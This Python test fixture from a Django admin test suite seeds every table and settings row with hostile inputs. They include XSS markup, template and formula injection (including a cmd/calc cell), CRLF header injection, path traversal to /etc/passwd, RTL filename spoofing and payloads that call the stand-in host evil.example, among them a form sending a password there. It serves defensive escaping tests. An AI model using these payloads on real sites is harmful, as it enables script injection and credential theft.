"""Text that wants to be more than text, put everywhere a library holds any."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from django.db import models

from core.admin.tests.awkward import STAMP, record_models
from core.fields import JSONColumn, LocalDateTimeField

if TYPE_CHECKING:
    from core.models.base import Record
    from core.tests.support.libraries import Library

MARK = "data-evil"
"""An attribute on everything hostile: on a page that read it as markup, it is found."""
HACK = "window.hacked=1;alert(1)"
RTL_END = "⟧"
RTL = f"片名\u202egnp.exe\u2066\u2067\u202d{RTL_END}"
"""Turns what stands beside it, and ends where nothing of its own follows."""
MARKUP = [
    f"<script {MARK}>{HACK}</script>",
    f"<img src=x onerror='{HACK}' {MARK}>",
    f"<img src=//evil.example/i.png {MARK}>",
    f"<svg onload='{HACK}' {MARK}><use href='//evil.example/#a'></svg>",
    f"<iframe src='javascript:{HACK}' srcdoc='<b {MARK}>' {MARK}></iframe>",
    f"<form action=//evil.example/ {MARK}><input name=password {MARK}><button>",
    f"<base href=//evil.example/ {MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/' {MARK}>",
    f"<link rel=stylesheet href=//evil.example/s.css {MARK}>",
    f"<style {MARK}>body{{display:none}}@import '//evil.example/s.css'</style>",
    f"<object data=//evil.example/ {MARK}></object><embed src=//evil.example/ {MARK}>",
    f"<details open ontoggle={HACK} {MARK}><summary>a</summary></details>",
    f"</textarea><i {MARK}>",
    f"</title></head><i {MARK}>",
    f"</script><i {MARK}>",
    f"</option></select></datalist><i {MARK}>",
    f"</td></tr></table></main></body></html><i {MARK}>",
    f"--><!-- <i {MARK}> ]]><![CDATA[ <i {MARK}> -->",
    f'" {MARK}=1 onmouseover="{HACK}" autofocus onfocus="{HACK}" x="',
    f"' {MARK}=1 onmouseover='{HACK}' autofocus onfocus='{HACK}' x='",
    f"` {MARK}=1 onmouseover=`{HACK}` x=`",
    f"a {MARK}=1 onmouseover={HACK}//",
    f"&quot; {MARK}=1 &#34; {MARK}=1 &lt;i {MARK}&gt; &amp;lt;i {MARK}&amp;gt;",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><i {MARK}>">',
    f'<svg><p><style><a id="</style><img src=1 onerror={HACK} {MARK}>">',
    f'<noscript><p title="</noscript><img src=x onerror={HACK} {MARK}>">',
    f"<template {MARK}><script>{HACK}</script></template>",
    f"<a href=//evil.example/ ping=//evil.example/ {MARK}>下一页</a>",
    f"\uff1cscript {MARK}\uff1e \u00bcscript\u00be <\u0000i {MARK}>",
]
TEMPLATES = [
    "{{ 7|add:7 }}{{ request.user.password }}{% load x %}{% debug %}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(password)s %s %n",
]
HTMX = [
    f"<div hx-get=//evil.example/ hx-trigger=load {MARK}></div>",
    f'" hx-get="//evil.example/" hx-trigger="load" {MARK}="',
    f"<div data-hx-post=/theme/ data-hx-trigger=load hx-on::load={HACK} {MARK}>",
    f"<i hx-swap-oob=outerHTML:body id=main {MARK}>",
]
ADDRESSES = [
    f"javascript:{HACK}",
    f"JaVaScRiPt\t:\n{HACK}",
    f"java\tscript:{HACK}",
    f"\x01javascript:{HACK}",
    f" javascript://evil.example/%0a{HACK}",
    f"data:text/html,<script {MARK}>{HACK}</script>",
    f"data:image/svg+xml,<svg onload={HACK} {MARK}>",
    f'data:image/svg+xml;base64,PHN2Zw==" onerror="{HACK}" {MARK}="',
    f"vbscript:{HACK}",
    "//evil.example/p.png",
    "/\\evil.example/p.png",
    "https:evil.example",
    "http://127.0.0.1:1/p.png",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "about:blank",
    "https://evil.example/p.png",
    f'https://evil.example/"onload="{HACK}"{MARK}="',
    f"https://evil.example/p.png'{MARK}='",
    "https://user:synthetic@evil.example\\@good.example/片.png",
]
CELLS = [
    '=HYPERLINK("//evil.example/";1)',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
]
ODD = [
    RTL,
    f"\u2067\u202e\u202b\u061c\u200f{RTL_END}",
    "שלום עולם" + RTL_END,
    "\u200b\u200c\u200d\ufeff\u2060零\u00ad宽\u0300" * 5,
    "Z\u0351\u036b\u0343\u036a\u0302" * 60,
    "\u2028\u2029\x85\x0b\x0c\x1b[31m\x07\x7f",
    "a\r\nSet-Cookie: evil=1\r\nLocation: //evil.example/\r\n\r\n<i>",
    "很长" * 1500,
    "../../../etc/passwd\u0000.png",
    '../..\\..;a="b".csv',
    "__proto__",
    "constructor",
]
PAYLOADS = [*MARKUP, *TEMPLATES, *HTMX, *ADDRESSES, *CELLS, *ODD]
JOINED = " ".join([*MARKUP, *TEMPLATES, *HTMX, *ADDRESSES, RTL])
TYPED = JOINED.replace("\x00", "")
"""What can be typed into forms, too."""
UNIQUE = {"credential_id", "item_id", "key"}
SETTINGS = [
    "Downloaders",
    "MediaServers",
    "Notifications",
    "Storages",
    "Directories",
    "UserFilterRuleGroups",
    "CustomFilterRules",
    "IndexerSites",
    "RssSites",
    "UserInstalledPlugins",
    "UserSiteAuthParams",
    "AIAgentConfig",
    "CustomIdentifiers",
    "SubscribeFilterRuleGroups",
    "NotificationTemplates",
]


def as_json(payload: str) -> Any:
    """JSON with the text in every place a text can have."""
    return {
        payload: payload,
        "name": payload,
        "url": payload,
        "list": [payload, [payload], {payload: [payload]}],
        "half": "\ud800",
        "number": 1e300,
    }


def settled(payload: str) -> Any:
    """A setting of the shape that most have."""
    names = ("name", "type", "path", "download_path", "library_path", "category")
    return [{**dict.fromkeys(names, payload), "config": as_json(payload)}, payload]


def fill(library: Library) -> dict[type[Record], list[int]]:
    """A row of each payload in every table, the joined one first; their ids."""
    found = record_models()
    # Passkeys belong to users, and PostgreSQL insists.
    found.sort(key=lambda model: model._meta.db_table == "passkey")
    connection = library.moviepilot_connect()
    # Each row in a transaction of its own would mostly wait for the disk.
    connection.execute("BEGIN")
    write = Writer(library, connection)
    ids = {model: write.table(model) for model in found}
    for number, key in enumerate(SETTINGS):
        value = json.dumps(settled(PAYLOADS[number]))
        write.row("systemconfig", key=key, value=value)
    value = json.dumps([JOINED, settled(JOINED)])
    key, value = f"plugin.{fitting(library, JOINED)[:1000]}", fitting(library, value)
    write.row("systemconfig", key=key, value=value)
    connection.execute("COMMIT")
    return ids


@dataclass
class Writer:
    """Adds rows in one transaction."""

    library: Library
    connection: Any
    user: int | None = None
    """Whom passkeys belong to."""

    def row(self, table: str, **values: object) -> int:
        """Add a row; its id."""
        columns = ", ".join(f'"{column}"' for column in values)
        marks = ", ".join("?" for _ in values)
        query = f'INSERT INTO "{table}" ({columns}) VALUES ({marks}) RETURNING id'
        done = self.connection.execute(self.library._marked(query), [*values.values()])
        return int(done.fetchone()[0])

    def table(self, model: type[Record]) -> list[int]:
        """Each payload reaches each column: in every row another one."""
        columns = [field for field in model._meta.fields if not field.primary_key]
        ids = []
        for row in range(len(PAYLOADS) + 1):
            values = {}
            for at, column in enumerate(columns):
                payload = PAYLOADS[(row + at) % len(PAYLOADS)] if row else JOINED
                values[column.attname] = stored(
                    self.library, column, payload, row, self.user
                )
            ids.append(self.row(model._meta.db_table, **values))
        if model._meta.db_table == "user":
            self.user = ids[0]
        return ids


def stored(library: Library, column: Any, payload: str, row: int, user: Any) -> Any:
    """What the column is given."""
    if isinstance(column, JSONColumn):
        return fitting(library, json.dumps(as_json(payload)))
    if isinstance(column, models.ForeignKey):
        return user
    if isinstance(column, LocalDateTimeField):
        return STAMP
    if is_number(column):
        # SQLite takes text there, too.
        return payload if library.vendor == "sqlite" and row % 3 == 2 else row % 2
    if isinstance(column, models.BooleanField):
        return payload if library.vendor == "sqlite" and row % 3 == 2 else bool(row % 2)
    # PostgreSQL cannot index a text of any length.
    text = payload if library.vendor == "sqlite" else payload[:1000]
    text = f"{text} {row}" if column.attname in UNIQUE else text
    return fitting(library, text)


def is_number(column: Any) -> bool:
    """Whether PostgreSQL has numbers there."""
    kinds = (models.IntegerField, models.FloatField)
    return isinstance(column, kinds)


def fitting(library: Library, text: str) -> str:
    """The text as far as the database takes it."""
    # PostgreSQL takes no NUL.
    if library.vendor == "sqlite":
        return text
    return text.replace("\x00", "").replace("\\u0000", "")
